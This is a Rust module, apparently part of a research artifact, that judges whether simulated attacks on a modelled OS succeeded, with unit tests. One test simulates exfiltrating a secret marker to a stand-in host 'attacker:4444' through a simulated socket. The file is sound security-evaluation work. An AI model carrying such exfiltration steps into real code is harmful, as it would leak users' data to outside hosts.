//! Attack-outcome judgment: did the attacker get what they wanted?
//!
//! The evaluation (§5, Table 1, §5.3) asks per attack goal:
//!
//! * **M** — was the critical data actually corrupted?
//! * **C** — was API code successfully rewritten?
//! * **D** — did the *application* (host) die, or only an agent?
//! * **Exfiltration** — did the marker bytes reach an outside
//!   destination?
//!
//! Judgment inspects ground truth (object bytes, network log, process
//! liveness) rather than trusting the exploit's own report.

use freepart_frameworks::{ActionOutcome, ActionReport, ExploitAction, ObjectId, ObjectStore};
use freepart_simos::{Kernel, Pid};

/// What the attacker was trying to achieve.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackGoal {
    /// Change the bytes of a critical object away from `original`.
    CorruptObject {
        /// The target object.
        id: ObjectId,
        /// Its pristine contents.
        original: Vec<u8>,
    },
    /// Get bytes containing `marker` off-box.
    Exfiltrate {
        /// A distinctive substring of the secret.
        marker: Vec<u8>,
    },
    /// Take the host application down.
    CrashHost,
    /// Rewrite executable code (observed via the exploit log, since
    /// "code" is a designated RX page).
    RewriteCode,
}

/// The verdict for one attack under one scheme.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The attacker's goal was denied.
    Prevented,
    /// The attacker's goal was achieved.
    Succeeded,
}

impl Verdict {
    /// True for [`Verdict::Prevented`].
    pub fn prevented(self) -> bool {
        self == Verdict::Prevented
    }
}

/// Judges one goal against the post-attack system state.
pub fn judge(
    goal: &AttackGoal,
    kernel: &mut Kernel,
    objects: &ObjectStore,
    host: Pid,
    exploit_log: &[ActionReport],
) -> Verdict {
    match goal {
        AttackGoal::CorruptObject { id, original } => {
            let Some(meta) = objects.meta(*id) else {
                // Object destroyed — treat as corrupted.
                return Verdict::Succeeded;
            };
            if !kernel.is_running(meta.home) {
                // Payload unreadable but also unusable by the app; the
                // data was not *corrupted* (DoS is judged separately).
                return Verdict::Prevented;
            }
            match objects.read_bytes(kernel, *id) {
                Ok(bytes) if &bytes == original => Verdict::Prevented,
                _ => Verdict::Succeeded,
            }
        }
        AttackGoal::Exfiltrate { marker } => {
            // Only egress toward non-GUI destinations counts.
            let leaked = kernel
                .network
                .sends()
                .iter()
                .filter(|s| !s.dest.starts_with("gui"))
                .any(|s| {
                    !marker.is_empty() && s.bytes.windows(marker.len()).any(|w| w == &marker[..])
                });
            if leaked {
                Verdict::Succeeded
            } else {
                Verdict::Prevented
            }
        }
        AttackGoal::CrashHost => {
            if kernel.is_running(host) {
                Verdict::Prevented
            } else {
                Verdict::Succeeded
            }
        }
        AttackGoal::RewriteCode => {
            let rewrote = exploit_log.iter().any(|r| {
                matches!(r.action, ExploitAction::RewriteCode { .. })
                    && r.outcome == ActionOutcome::Achieved
            });
            if rewrote {
                Verdict::Succeeded
            } else {
                Verdict::Prevented
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::ObjectKind;

    fn setup() -> (Kernel, ObjectStore, Pid) {
        let mut k = Kernel::new();
        let host = k.spawn("host");
        (k, ObjectStore::new(), host)
    }

    /// Sends `bytes` to `dest` from `pid` through a fresh socket.
    fn send(k: &mut Kernel, pid: Pid, dest: &str, bytes: &[u8]) {
        use freepart_simos::{Syscall, SyscallRet};
        let Ok(SyscallRet::NewFd(fd)) = k.syscall(pid, Syscall::Socket) else {
            panic!("socket refused");
        };
        let dest = dest.to_owned();
        let bytes = bytes.to_vec();
        k.syscall(pid, Syscall::Sendto { fd, dest, bytes }).unwrap();
    }

    #[test]
    fn corruption_judged_by_bytes() {
        let (mut k, mut store, host) = setup();
        let id = store
            .create_with_data(&mut k, host, ObjectKind::Blob, "t", b"GOOD")
            .unwrap();
        let goal = AttackGoal::CorruptObject {
            id,
            original: b"GOOD".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
        let addr = store.meta(id).unwrap().buffer.unwrap().0;
        k.mem_write(host, addr, b"EVIL").unwrap();
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Succeeded);
    }

    #[test]
    fn corruption_in_dead_process_counts_as_prevented() {
        let (mut k, mut store, host) = setup();
        let agent = k.spawn("agent");
        let id = store
            .create_with_data(&mut k, agent, ObjectKind::Blob, "t", b"GOOD")
            .unwrap();
        k.deliver_fault(agent, freepart_simos::FaultKind::Abort, None);
        let goal = AttackGoal::CorruptObject {
            id,
            original: b"GOOD".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
    }

    #[test]
    fn exfiltration_ignores_gui_traffic() {
        let (mut k, store, host) = setup();
        send(&mut k, host, "gui:display", b"SECRET");
        let goal = AttackGoal::Exfiltrate {
            marker: b"SECRET".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
        send(&mut k, host, "attacker:4444", b"xxSECRETxx");
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Succeeded);
    }

    #[test]
    fn crash_host_judged_by_liveness() {
        let (mut k, store, host) = setup();
        assert_eq!(
            judge(&AttackGoal::CrashHost, &mut k, &store, host, &[]),
            Verdict::Prevented
        );
        k.deliver_fault(host, freepart_simos::FaultKind::Abort, None);
        assert_eq!(
            judge(&AttackGoal::CrashHost, &mut k, &store, host, &[]),
            Verdict::Succeeded
        );
    }

    #[test]
    fn rewrite_judged_from_exploit_log() {
        let (mut k, store, host) = setup();
        let log = vec![ActionReport {
            action: ExploitAction::RewriteCode { addr: 0x1000 },
            outcome: ActionOutcome::SyscallKilled,
        }];
        assert_eq!(
            judge(&AttackGoal::RewriteCode, &mut k, &store, host, &log),
            Verdict::Prevented
        );
        let log = vec![ActionReport {
            action: ExploitAction::RewriteCode { addr: 0x1000 },
            outcome: ActionOutcome::Achieved,
        }];
        assert_eq!(
            judge(&AttackGoal::RewriteCode, &mut k, &store, host, &log),
            Verdict::Succeeded
        );
    }
}
